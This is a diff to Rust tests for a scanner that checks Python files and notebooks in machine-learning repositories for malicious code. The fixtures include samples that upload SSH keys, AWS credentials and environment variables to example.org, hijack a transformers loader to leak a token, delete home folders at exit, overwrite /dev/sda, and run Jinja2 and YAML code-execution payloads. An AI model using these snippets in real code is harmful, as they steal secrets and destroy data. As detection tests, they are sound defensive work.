@@ -149,6 +149,27 @@ const SUSPICIOUS: &[(&str, &str)] = &[
         "python/runs-in-use",
     ),
     (
+        "import atexit, shutil, os\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self):\n        atexit.register(shutil.rmtree, os.path.expanduser('~/Documents'), True)\n",
+        "python/persistence",
+    ),
+    (
+        "import weakref, shutil\nclass A: pass\na = A()\nweakref.finalize(a, shutil.rmtree, '/home/user')\n",
+        "python/writes-on-import",
+    ),
+    (
+        "import threading, requests\nthreading.Timer(5, requests.post, args=('https://example.org', b'x')).start()\n",
+        "python/network-on-import",
+    ),
+    (
+        "import subprocess, sys\nclass A:\n    def f(self, n):\n        cmd = [sys.executable]\n        if n:\n            cmd += ['-c', 'x']\n        subprocess.run(cmd)\n",
+        "python/runs-in-use",
+    ),
+    // What stands in the place of a library's function sends what that is asked for.
+    (
+        "import transformers, requests\norig = transformers.AutoModel.from_pretrained\ndef load(*a, **k):\n    requests.get('https://c.example.org/?t=' + k['token'])\n    return orig(*a, **k)\ntransformers.AutoModel.from_pretrained = load\n",
+        "python/runs-in-use",
+    ),
+    (
         "import gradio, os\ndef run(c):\n    return os.popen(c).read()\ngradio.Interface(run).launch()\n",
         "python/runs-in-use",
     ),
@@ -293,10 +314,34 @@ fn modelling_code_is_clean() {
 }
 
 #[test]
+fn a_pickle_that_a_notebook_wrote_is_its_own_until_something_else_writes_it() {
+    let outcome = |between: &str| {
+        let cell = format!(r"joblib.dump([1], 'm.joblib')\n{between}joblib.load('m.joblib')");
+        let text = format!(
+            r#"{{"nbformat": 4, "cells": [{{"cell_type": "code", "source": "import joblib, urllib.request\n{cell}", "outputs": []}}]}}"#
+        );
+        crate::scan_bytes(&"a.ipynb".parse().unwrap(), text.as_bytes(), &Limits::default()).outcome
+    };
+    assert_eq!(outcome(""), Outcome::Clean);
+    assert_eq!(
+        outcome(r"import kaggle_secrets\nk = kaggle_secrets.UserSecretsClient().get_secret('HF')\n"),
+        Outcome::Clean
+    );
+    let fetched = r"urllib.request.urlretrieve('https://example.org/m', 'm.joblib')\n";
+    assert_eq!(outcome(fetched), Outcome::Suspicious);
+}
+
+#[test]
 fn what_is_handed_over_is_judged_by_what_its_callers_choose() {
     for source in [
         "import click, subprocess\n@click.command()\ndef main(path):\n    subprocess.run(['ffmpeg', '-i', path])\n",
         "import datasets\ndef clean(row):\n    return {'x': eval(row['x'])}\ndatasets.Dataset().map(lambda r: eval(r))\n",
+        "import subprocess\ndef run(args):\n    subprocess.run(['gcloud', args.name])\ndef main(parsers):\n    parsers.add_parser('x').set_defaults(func=run)\n",
+        "import subprocess\ndef run(args):\n    cmd = ['gcloud']\n    if args.alpha:\n        cmd += ['alpha']\n    subprocess.run(cmd)\ndef main(parsers):\n    parsers.add_parser('x').set_defaults(func=run)\n",
+        "import subprocess, sys\nclass Launcher:\n    def start(self, path):\n        cmd = [sys.executable]\n        if path:\n            cmd += [path]\n        subprocess.Popen(cmd)\n",
+        "import os, subprocess\nclass Requeue:\n    def requeue(self):\n        cmd = ['scontrol', 'requeue', os.environ['SLURM_JOB_ID']]\n        subprocess.call(' '.join(cmd), shell=True)\n",
+        "class Adapter:\n    def update(self, r):\n        conv = type(self.layer())\n        self.a = conv(self.features, r, 3, bias=False)\n        self.b = conv(4, r)\n",
+        "import yaml\nclass Plain(yaml.SafeLoader):\n    pass\ndef read(f):\n    return yaml.load(f, Loader=Plain)\n",
         "import flask, joblib\napp = flask.Flask(__name__)\nmodel = joblib.load('model/model.joblib')\n",
         "import torch\ndef forward(self, x):\n    return x\ntorch.nn.Linear.forward = forward\n",
         "import sys\nsys.path.append('third_party/v1.0')\nsys.path.insert(0, '..')\n",
@@ -397,6 +442,126 @@ fn modules_inside_of_files_and_parts_of_files_are_told() {
         ("n = 'add'\neval('np.' + n)\n", None),
         ("from IPython.display import Javascript\nJavascript('fetch(1)')\n", Some("notebook/script")),
         ("from IPython.display import HTML\nHTML('<b>x</b>')\n", None),
+    ] {
+        let report = scan(source);
+        match rule {
+            Some(rule) => assert!(rules(&report).contains(&rule), "{source}: {:?}", report.findings),
+            None => assert_eq!(report.outcome, Outcome::Clean, "{source}: {:?}", report.findings),
+        }
+    }
+}
+
+#[test]
+fn what_is_not_known_is_not_proven() {
+    for (source, rule) in [
+        (
+            "from pathlib import Path\nclass A:\n    def f(self):\n        with (Path.home() / '.bashrc').open('a') as f:\n            f.write('x')\n",
+            Some("python/persistence"),
+        ),
+        (
+            "import os\nfrom huggingface_hub import HfApi\nclass A:\n    def f(self):\n        HfApi().upload_file(path_or_fileobj=os.path.expanduser('~/.ssh/id_rsa'))\n",
+            Some("python/exfiltration"),
+        ),
+        ("import stranger_pkg\nstranger_pkg.go()\n", Some("python/not-proven")),
+        ("import imaplib\nimaplib.something('x')\n", Some("python/not-proven")),
+        ("fs = make()\nfs[0]('id')\n", Some("python/not-proven")),
+        ("import random\nrandom._os.thing()\n", Some("python/not-proven")),
+        ("import numpy as np\nx = np.zeros(3).sum()\nraise ValueError('x')\n", None),
+        ("import torch\ndef f(make):\n    return make()(1)\n", None),
+        ("from .sibling import f\nf()\n", None),
+        // What importing gives away is run by somebody.
+        (
+            "import torch, os\ndef f(k):\n    os.system('true')\ntorch.utils.data.DataLoader([], worker_init_fn=f)\n",
+            Some("python/runs-in-use"),
+        ),
+        ("import click, os\n@click.command()\ndef f():\n    os.system('true')\n", None),
+        (
+            "import typing\nclass C:\n    a: \"__import__('os').system('true')\"\n",
+            Some("python/runs-on-import"),
+        ),
+        (
+            "import subprocess\nT = dict(zip(('a', 'b'), (open, subprocess.getoutput)))\nT['b']('true')\n",
+            Some("python/runs-on-import"),
+        ),
+        ("x = type(lambda: 0)(compile(input(), 'g', 'exec'), {})()\n", Some("python/computed")),
+        (
+            "import psycopg2\npsycopg2.connect('').cursor().execute(\"COPY t TO PROGRAM 'true'\")\n",
+            Some("python/runs-on-import"),
+        ),
+        (
+            "import os, requests\ndef main():\n    requests.post('http://example.org', json=dict(os.environ))\n",
+            Some("python/reads-credentials"),
+        ),
+        (
+            "import pathlib, requests\nclass P:\n    def forward(self, x):\n        key = pathlib.Path.home() / '.ssh/id_rsa'\n        requests.post('https://example.org', data=key.read_bytes())\n",
+            Some("python/exfiltration"),
+        ),
+        (
+            "import pathlib, requests\nclass P:\n    def forward(self, x):\n        for key in pathlib.Path('~/.ssh').expanduser().iterdir():\n            requests.post('https://example.org', data=key.read_text())\n",
+            Some("python/exfiltration"),
+        ),
+        (
+            "import os, shutil\nclass P:\n    def forward(self, x):\n        shutil.copy(os.path.expanduser('~/.ssh/id_rsa'), 'weights.bin')\n",
+            Some("python/reads-credentials"),
+        ),
+        (
+            "import os\nclass P:\n    def f(self):\n        os.environ['LD_PRELOAD'] = './w.so'\n",
+            Some("code/environment"),
+        ),
+        ("import os\nos.environ.update(PYTHONSTARTUP='x.py')\n", Some("code/environment")),
+        ("import os\nos.environ['LD_PRELOAD'] = '/usr/lib/libjemalloc.so'\nos.environ['A'] = 'x'\n", None),
+        (
+            "import os\nclass P:\n    def __init__(self):\n        self.run = os.system\n    def forward(self, x):\n        self.run('id')\n",
+            Some("python/runs-in-use"),
+        ),
+        (
+            "import os\nclass P:\n    run = os.system\n    def forward(self, x):\n        type(self).run('id')\n",
+            Some("python/runs-in-use"),
+        ),
+        (
+            "import os\nclass P:\n    run = os.system\n    def forward(self, x):\n        self.run('id')\n",
+            Some("python/runs-in-use"),
+        ),
+        (
+            "import os\nclass P:\n    def forward(self, x):\n        open('/dev/sda', 'wb').write(b'0')\n",
+            Some("python/persistence"),
+        ),
+        (
+            "import os\nclass P:\n    def f(self):\n        os.chmod('/etc/passwd', 511)\n",
+            Some("python/persistence"),
+        ),
+        (
+            "import jinja2\nclass P:\n    def f(self):\n        jinja2.Template(\"{{ cycler.__init__.__globals__.os.system('id') }}\").render()\n",
+            Some("template/escape"),
+        ),
+        (
+            "import jinja2\nclass P:\n    def f(self, x):\n        return jinja2.Template('{{ x }}').render(x=x)\n",
+            None,
+        ),
+        (
+            "import yaml\nclass P:\n    def f(self):\n        yaml.load('!!python/object/apply:os.system [id]', Loader=yaml.Loader)\n",
+            Some("python/unsafe-load"),
+        ),
+        (
+            "import gc, torch\nclass P:\n    def f(self):\n        return [o.size() for o in gc.get_objects() if torch.is_tensor(o)]\n",
+            None,
+        ),
+        (
+            "import glob, os, requests\nclass P:\n    def forward(self, x):\n        for key in glob.glob(os.path.expanduser('~/.aws/*')):\n            requests.post('https://example.org', data=open(key, 'rb').read())\n",
+            Some("python/exfiltration"),
+        ),
+        (
+            "import os, requests\nclass A:\n    def f(self):\n        requests.get('https://example.org', headers={'x': os.environ['API_KEY']})\n",
+            None,
+        ),
+        (
+            "import subprocess\nsubprocess.run('pip install flash-attn --no-build-isolation', shell=True)\n",
+            None,
+        ),
+        (
+            "import subprocess\nsubprocess.run('pip install strangers-pkg', shell=True)\n",
+            Some("python/runs-on-import"),
+        ),
     ] {
         let report = scan(source);
         match rule {
